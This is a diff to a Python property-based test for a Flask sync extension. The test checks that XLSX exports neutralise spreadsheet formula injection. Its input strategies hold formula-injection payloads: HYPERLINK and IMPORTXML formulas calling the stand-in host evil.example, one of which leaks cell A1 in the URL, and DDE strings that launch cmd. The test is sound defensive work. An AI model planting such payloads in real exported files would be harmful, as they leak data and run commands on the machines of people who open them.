@@ -32,6 +32,7 @@ from hypothesis import strategies as st
 from werkzeug.routing import Rule
 
 from flask_dynamics_sync import DynamicsSync
+from flask_dynamics_sync import export
 from flask_dynamics_sync.extension import BLUEPRINT_NAME
 from flask_dynamics_sync.models import QueueItem
 from flask_dynamics_sync.models import SyncError
@@ -330,10 +331,9 @@ def test_no_return_address_leads_off_the_site(client, errors_dataset, url_parser
 
 # -- exported cells -------------------------------------------------------------------------
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 formula_text = st.builds(
     lambda start, rest: start + rest,
-    st.sampled_from([*FORMULA_STARTS, " =", "\n=", ""]),
+    st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "\n=", "\xa0+", "\u3000-", '"=', "' @", ""]),
     st.sampled_from(['HYPERLINK("http://evil.example","x")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0",
                      "1+1", "A1", "IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"])
     | st.text(max_size=30),
@@ -341,7 +341,8 @@ formula_text = st.builds(
 
 
 @fuzz(25)
-@given(label=formula_text, message=formula_text, code=formula_text.map(lambda value: value[:32]),
+@given(label=formula_text, message=formula_text,
+       code=formula_text.map(lambda value: "".join(ch for ch in value if ch.isprintable())[:32]),
        record_id=formula_text.map(lambda value: value.replace("\x00", "")[:128]))
 def test_no_exported_cell_can_run_as_a_formula(client, sync, db, label, message, code, record_id):
     for model in (SyncError, QueueItem):
@@ -357,5 +358,7 @@ def test_no_exported_cell_can_run_as_a_formula(client, sync, db, label, message,
     book = openpyxl.load_workbook(io.BytesIO(client.get(ERRORS_URL + "export/xlsx/").data))
     cells = [cell for cells in book.active.iter_rows(min_row=2) for cell in cells if cell.value is not None]
 
-    assert [value for value in row if value.startswith(FORMULA_STARTS)] == []
-    assert [c.value for c in cells if c.data_type == "f" or str(c.value).startswith(FORMULA_STARTS)] == []
+    # A cell that could run is shown as text: it starts with the apostrophe a spreadsheet drops.
+    assert [value for value in row if export.needs_neutralizing(value) and not value.startswith("'")] == []
+    assert [c.value for c in cells if c.data_type == "f" or (
+        export.needs_neutralizing(str(c.value)) and not str(c.value).startswith("'"))] == []
